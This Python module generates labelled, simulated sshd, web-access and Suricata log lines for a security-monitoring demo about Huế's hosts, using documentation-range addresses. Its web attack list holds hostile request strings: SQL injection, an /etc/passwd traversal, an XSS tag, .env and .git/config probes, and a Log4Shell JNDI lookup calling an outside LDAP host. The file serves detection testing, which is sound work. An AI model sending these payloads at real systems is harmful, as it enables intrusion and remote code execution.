"""A labelled attack simulator for the demo: real-format lines of a brute force, a compromise,
password spraying, a port scan and a web attack against Huế's hosts.

Every attacker address is in a documentation range (RFC 5737: 203.0.113.0/24 attackers,
198.51.100.0/24 ordinary visitors, 192.0.2.0/24 the city's hosts), so no simulated line names a
real address. The lines go through the same parsers as real logs; a worker built on this source
marks its records ``simulated`` (the page says SIMULATED).
"""

from __future__ import annotations

import json
import random
import threading
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta

Line = tuple[float, bytes]  # seconds after the script's start, the line
Clock = Callable[[], datetime]

HOSTS = {"gw": "hue-gw", "portal": "hue-dichvucong", "fw": "hue-ids"}
USERS = ["root", "admin", "ubuntu", "oracle", "postgres", "test", "guest", "hue", "user", "pi", "ftp", "www"]
SCRIPT_SECONDS = 600.0


def _syslog(at: datetime, host: str, pid: int, msg: str) -> bytes:
    stamp = at.astimezone(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")
    return f"<38>1 {stamp} {host} sshd {pid} - - {msg}".encode()


def auth_script(start: datetime, rng: random.Random) -> list[Line]:
    """Syslog (RFC 5424) sshd lines: ordinary logins, a brute force that succeeds, a spraying run."""
    out: list[Line] = []
    for i in range(20):  # staff logging in from the city's network
        t = i * 30 + rng.uniform(0, 20)
        ip = f"192.0.2.{20 + i % 5}"
        out.append((t, _syslog(start + timedelta(seconds=t), HOSTS["gw"], 4000 + i,
                                f"Accepted publickey for hue from {ip} port {40000 + i} ssh2")))
    for i in range(15):  # brute force on root, then a success: possible compromise
        t = 60 + i * 4
        out.append((t, _syslog(start + timedelta(seconds=t), HOSTS["gw"], 5000 + i,
                                f"Failed password for root from 203.0.113.66 port {50000 + i} ssh2")))
    out.append((125.0, _syslog(start + timedelta(seconds=125), HOSTS["gw"], 5100,
                               "Accepted password for root from 203.0.113.66 port 50100 ssh2")))
    for i, user in enumerate(USERS):  # one address, one try per account
        t = 150 + i * 40  # slow enough to stay under the brute-force count
        out.append((t, _syslog(start + timedelta(seconds=t), HOSTS["gw"], 6000 + i,
                                f"Failed password for invalid user {user} from 203.0.113.77 "
                                f"port {51000 + i} ssh2")))
    return out


def web_script(start: datetime, rng: random.Random) -> list[Line]:
    """Combined-format access lines of the citizens' portal: visitors, then a scanner's injections."""
    def line(t: float, ip: str, path: str, status: int, agent: str) -> Line:
        stamp = (start + timedelta(seconds=t)).astimezone(UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
        size = rng.randint(200, 9000)
        return t, f'{ip} - - [{stamp}] "GET {path} HTTP/1.1" {status} {size} "-" "{agent}"'.encode()

    pages = ["/", "/tin-tuc", "/thu-tuc"]
    out = [line(i * 6 + rng.uniform(0, 5), f"198.51.100.{10 + i % 40}", rng.choice(pages), 200, "Mozilla/5.0")
           for i in range(90)]
    attacks = ["/index.php?id=1%27%20OR%20%271%27=%271", "/../../etc/passwd",
               "/search?q=%3Cscript%3Ealert(1)", "/wp-login.php", "/.env", "/.git/config",
               "/?x=${jndi:ldap://203.0.113.88/a}"]
    for i in range(60):
        out.append(line(300 + i, "203.0.113.88", attacks[i % len(attacks)] if i % 3 == 0 else f"/admin{i}",
                        404, "sqlmap/1.7.2#stable (https://sqlmap.org)"))
    return out


def eve_script(start: datetime, rng: random.Random) -> list[Line]:
    """Suricata EVE records: flows of a scan over many ports and hosts, and the IDS's scan alerts."""
    def rec(t: float, **fields: object) -> Line:
        stamp = (start + timedelta(seconds=t)).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f+0000")
        return t, json.dumps({"timestamp": stamp, "host": HOSTS["fw"], **fields}).encode()

    out: list[Line] = []
    for i in range(120):
        out.append(rec(400 + i * 0.5, event_type="flow", src_ip="203.0.113.99", src_port=40000 + i,
                       dest_ip=f"192.0.2.{10 + i % 12}", dest_port=rng.choice([22, 23, 80, 443, 3389]) + i,
                       proto="TCP", flow={"state": "new", "pkts_toserver": 1, "pkts_toclient": 0}))
        if i % 20 == 0:
            out.append(rec(400 + i * 0.5, event_type="alert", src_ip="203.0.113.99", src_port=40000 + i,
                           dest_ip="192.0.2.10", dest_port=22, proto="TCP",
                           alert={"action": "allowed", "gid": 1, "signature_id": 2001219, "rev": 20,
                                  "signature": "ET SCAN Potential SSH Scan",
                                  "category": "Attempted Information Leak", "severity": 2}))
    return out


SCRIPTS: dict[str, Callable[[datetime, random.Random], list[Line]]] = {
    "syslog": auth_script, "web": web_script, "suricata": eve_script,
}


def attack_lines(log: str, start: datetime, seed: int = 13) -> list[Line]:
    """The script of one log kind, in time order (``syslog``, ``web`` or ``suricata``)."""
    if log not in SCRIPTS:
        raise ValueError(f"no simulated script for log {log!r} (known: {sorted(SCRIPTS)})")
    return sorted(SCRIPTS[log](start, random.Random(seed)), key=lambda item: item[0])


class SimulatedAttackSource:
    """Plays a script paced by ``clock``, each line stamped with the time it is due, then again."""

    def __init__(self, log: str, *, name: str, clock: Clock, poll_s: float = 0.2) -> None:
        attack_lines(log, datetime(2026, 1, 1, tzinfo=UTC))  # refuse an unknown log now
        self.log, self.name, self.clock, self.poll_s = log, name, clock, poll_s
        self.connected = self.live = True
        self.rounds = 0

    def read(self, stop: threading.Event) -> Iterator[tuple[list[bytes], datetime]]:
        while not stop.is_set():
            began = self.clock()
            script, sent = attack_lines(self.log, began, seed=13 + self.rounds), 0
            while sent < len(script) and not stop.is_set():
                now = self.clock()
                due = (now - began).total_seconds()
                batch = []
                while sent < len(script) and script[sent][0] <= due:
                    batch.append(script[sent][1])
                    sent += 1
                yield batch, now
                if sent < len(script):
                    stop.wait(self.poll_s)
            self.rounds += 1

    def take_errors(self) -> list[str]:
        return []
